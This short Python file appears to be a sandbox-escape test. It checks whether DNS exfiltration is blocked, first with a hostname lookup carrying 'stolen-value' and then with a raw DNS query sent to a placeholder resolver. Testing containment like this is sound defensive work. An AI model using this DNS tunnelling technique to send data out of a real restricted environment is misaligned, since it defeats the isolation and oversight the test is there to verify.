"""A value leaves as the name in a DNS question."""

# expect: held
import socket

try:
    print("ESCAPED", socket.getaddrinfo("stolen-value.example.com", 80))
except OSError as error:
    print(error)
try:
    door = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    door.settimeout(2)
    door.sendto(
        b"\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06stolen\x07example\x00\x00\x01\x00\x01", ("192.0.2.53", 53)
    )
    door.recv(1)
    print("ESCAPED")
except OSError as error:
    print(error)

open("/output/ended.txt", "w").write("ended")
